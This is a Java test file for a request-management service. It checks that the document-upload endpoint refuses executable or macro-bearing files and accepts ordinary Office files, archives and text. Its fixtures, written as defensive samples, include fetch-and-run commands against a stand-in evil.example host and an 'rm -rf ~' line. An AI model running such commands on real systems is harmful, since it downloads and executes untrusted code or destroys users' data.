package fr.vigie.request.document;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import fr.vigie.request.RequestApi;
import fr.vigie.testing.FixedClock;
import fr.vigie.testing.TestFiles;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;

/**
 * Issue 18, item 23: files that run when opened are refused by their name, their first bytes and, for ZIP files,
 * what the container holds; ordinary Office files and archives still pass. Every file is made here, for real.
 */
@QuarkusTest
class ActiveUploadTest {

    private static String csrf;
    private static int requestId;

    static Stream<Arguments> refused() {
        return Stream.of(
                Arguments.of("lettre.vbs", text("MsgBox \"Bonjour\"\r\nCreateObject(\"WScript.Shell\").Run \"calc\"\r\n")),
                Arguments.of("job.wsf", text("<job><script language=\"VBScript\">MsgBox \"x\"</script></job>")),
                Arguments.of("encoded.jse", text("#@~^CAAAAA==W~@#@&x=1^#~@\r\n")),
                Arguments.of("app.hta", text("<hta:application id=\"x\"/><script>alert(1)</script>")),
                Arguments.of("setup.ps1", text("Invoke-WebRequest https://evil.example/x -OutFile $env:TEMP\\x.exe\r\n")),
                Arguments.of("tool.py", text("import os\nos.system('rm -rf ~')\n")),
                Arguments.of("document.lnk", lnk()),
                Arguments.of("site.url", text("[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n")),
                Arguments.of("open.desktop", text("[Desktop Entry]\nType=Application\nName=PDF\nExec=sh -c 'curl evil|sh'\n")),
                Arguments.of("rapport.docm", zip("[Content_Types].xml", "<Types/>", "word/document.xml", "<w:document/>",
                        "word/vbaProject.bin", "macro")),
                Arguments.of("budget.xlsm", zip("[Content_Types].xml", "<Types/>", "xl/workbook.xml", "<workbook/>",
                        "xl/vbaProject.bin", "macro")),
                Arguments.of("marche.docx", zip("[Content_Types].xml", "<Types/>", "word/document.xml", "<w:document/>",
                        "word/vbaProject.bin", "macro")),
                Arguments.of("facture.docx", zip("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n",
                        "Evil.class", "\u00ca\u00fe\u00ba\u00be")),
                Arguments.of("avis.docx", zip("fr/evil/Payload.class", "\u00ca\u00fe\u00ba\u00be")),
                Arguments.of("pieces.zip", zip("a.pdf", "%PDF-1.4", "lisez-moi.vbs", "MsgBox 1")),
                Arguments.of("notes.txt", text("#!/bin/sh\ncurl https://evil.example | sh\n")),
                Arguments.of("raccourci.pdf", lnk()));
    }

    static Stream<Arguments> accepted() {
        return Stream.of(
                Arguments.of("marche.docx", zip("[Content_Types].xml", "<Types/>", "word/document.xml", "<w:document/>")),
                Arguments.of("pieces.zip", zip("a.pdf", new String(TestFiles.pdf("a"), StandardCharsets.ISO_8859_1))),
                Arguments.of("notes.txt", text("Réponse reçue le 3 mars ; # pas un script\n")));
    }

    @ParameterizedTest
    @MethodSource("refused")
    void item23_filesThatRunWhenOpenedAreRefusedByContentAndContainer(String name, byte[] bytes) {
        upload(name, bytes).then().statusCode(422).contentType("application/problem+json")
                .body("errors[0].field", equalTo("file"));
    }

    @ParameterizedTest
    @MethodSource("accepted")
    void item23_ordinaryOfficeFilesArchivesAndTextStillPass(String name, byte[] bytes) {
        upload(name, bytes).then().statusCode(201);
    }

    private static Response upload(String name, byte[] bytes) {
        if (csrf == null) {
            FixedClock.install("2025-03-10");
            requestId = RequestApi.newRequest(RequestApi.newBody("75"));
            csrf = given().get("/api/v1/requests/0").then().extract().cookie("vigie-csrf");
        }
        return RequestApi.asEditor().contentType("multipart/form-data").cookie("vigie-csrf", csrf).header("X-CSRF-TOKEN", csrf)
                .multiPart("file", name, bytes, "application/octet-stream").post("/api/v1/requests/" + requestId + "/documents");
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** A Windows shortcut: the 76-byte Shell Link header (MS-SHLLINK 2.1), then a little padding. */
    private static byte[] lnk() {
        byte[] bytes = new byte[120];
        byte[] header = { 0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46 };
        System.arraycopy(header, 0, bytes, 0, header.length);
        Arrays.fill(bytes, 76, bytes.length, (byte) 'A');
        return bytes;
    }

    /** A ZIP of the given (name, content) pairs; contents as ISO-8859-1, so any byte can be written. */
    private static byte[] zip(String... entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (int i = 0; i < entries.length; i += 2) {
                zip.putNextEntry(new ZipEntry(entries[i]));
                zip.write(entries[i + 1].getBytes(StandardCharsets.ISO_8859_1));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
